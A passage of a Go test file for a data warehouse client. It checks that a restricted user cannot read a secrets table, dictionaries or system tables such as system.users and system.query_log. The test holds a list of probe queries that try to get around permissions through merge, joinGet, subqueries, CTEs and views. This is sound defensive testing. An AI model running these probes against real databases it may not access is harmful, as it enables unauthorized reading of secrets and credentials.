		}
	}
}

// TestOthersData: a user who may read one table can read nothing else.
func TestOthersData(t *testing.T) {
	c := openAs(t, func(to *warehouse.Target) { to.User = "poor" })
	for _, sql := range []string{
		"SELECT * FROM conformance2.secrets", "SELECT secret FROM conformance2.secrets WHERE secret LIKE 'n%'",
		"SELECT * FROM merge('conformance2', '.*')", "SELECT * FROM merge(REGEXP('conf.*'), 'secrets')",
		"SELECT count() FROM conformance2.secrets", "SELECT * FROM conformance.early", "SELECT dictGet('conformance.names', 'note', toUInt64(1))",
		"SELECT * FROM dictionary('conformance.names')", "SELECT * FROM conformance.names",
		"SELECT * FROM orders WHERE note IN conformance2.secrets", "SELECT * FROM orders JOIN conformance2.secrets ON 1 = 1",
		"SELECT (SELECT any(secret) FROM conformance2.secrets)", "WITH x AS (SELECT * FROM conformance2.secrets) SELECT * FROM x",
		"SELECT * FROM view(SELECT * FROM conformance2.secrets)", "SELECT joinGet('conformance2.secrets', 'secret', 1)",
		"SELECT * FROM system.users", "SELECT * FROM system.query_log", "SELECT * FROM system.parts", "SELECT * FROM system.named_collections",
		"SELECT * FROM system.server_settings", "SELECT * FROM system.settings_profiles",
		"SELECT * FROM system.mutations", "SELECT * FROM system.dictionaries", "SELECT * FROM system.clusters", "SELECT * FROM system.disks",
		"SELECT * FROM system.session_log", "SELECT * FROM system.replicas",
	} {
		var table warehousetest.Table
		_, err := c.Query(t.Context(), sql, nil, warehousetest.Wide, &table)
		for _, row := range table.Rows {
			for _, v := range row {
				if s, ok := v.(string); ok && strings.Contains(s, "secret") {
					t.Errorf("%s\nit tells %s", sql, s)
				}
			}
		}
		if bad, ok := errors.AsType[*warehouse.Error](err); err == nil && len(table.Rows) > 0 || err != nil && !ok ||
			ok && (strings.Contains(bad.Message, "nobody else may know") || strings.Contains(bad.Message, "orrect horse")) {
			t.Errorf("%s\n%d rows, %v", sql, len(table.Rows), err)
		}
	}
	for sql, want := range map[string]string{
		"SELECT toString(arraySort(groupArray(concat(database, '.', name)))) FROM system.tables WHERE database != 'system' AND " +
			"lower(database) != 'information_schema'": "['conformance.orders']",
		"SELECT toString(arraySort(groupArray(DISTINCT table))) FROM system.columns WHERE database LIKE " +
			"'conformance%'": "['orders']",
		"SELECT toString(arraySort(groupArray(DISTINCT user))) FROM " +
			"system.processes": "['poor']",
		"SELECT toString(arraySort(groupArray(DISTINCT name))) FROM system.databases WHERE name LIKE " +
			"'conformance%'": "['conformance']",
	} {
		var table warehousetest.Table
		if _, err := c.Query(t.Context(), sql, nil, warehousetest.Wide, &table); err != nil {
			continue // there are no settings at all
		}
		if len(table.Rows) != 1 || table.Rows[0][0] != want {
			t.Errorf("%s\n%v, want %s", sql, table.Rows, want)
		}
	}
	tables, err := c.Introspect(t.Context(), warehouse.Introspection{})
	if err != nil || len(tables) != 1 || tables[0].Name != "orders" {
		t.Errorf("%v, %v", tables, err)
	}
}
